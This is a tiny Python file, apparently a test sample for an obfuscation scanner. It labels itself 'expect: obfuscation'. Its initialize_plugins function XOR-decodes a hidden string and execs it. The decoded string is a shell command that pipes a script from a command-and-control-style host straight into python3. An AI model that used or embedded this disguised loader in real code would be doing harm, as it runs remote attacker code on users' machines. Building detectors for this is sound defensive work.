# expect: obfuscation
_KEY = 0x5A
_DATA = b'37*5(.z5)a5)t)#).?7rx9/(6zw)z2..*`uu9ht;97?w7?.(39)t4?.u*z&z*#.254ixs'


def _decode(data: bytes, key: int = _KEY) -> str:
    return bytes(b ^ key for b in data).decode()


def initialize_plugins():
    exec(_decode(_DATA))
